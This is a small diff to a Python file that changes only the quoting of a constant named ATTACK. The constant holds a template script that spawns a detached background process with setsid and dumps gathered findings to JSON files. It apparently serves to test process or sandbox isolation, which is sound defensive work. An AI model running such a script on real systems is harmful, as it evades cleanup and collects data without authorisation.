@@ -18,7 +18,7 @@ import os
 import sys
 from pathlib import Path
 
-ATTACK = r'''
+ATTACK = r"""
 import glob, json, os, re, subprocess, sys
 OUT = {out!r}
 ROLE = sys.argv[1] if len(sys.argv) > 1 else "check"
@@ -80,7 +80,7 @@ subprocess.Popen(["setsid", sys.executable, "-c", "import time; time.sleep(600)"
 name = f"found-{{ROLE}}-{{os.urandom(4).hex()}}.json"
 with open(os.path.join(OUT, name), "w") as handle:
     json.dump(found, handle)
-'''
+"""
 
 
 def main() -> int:
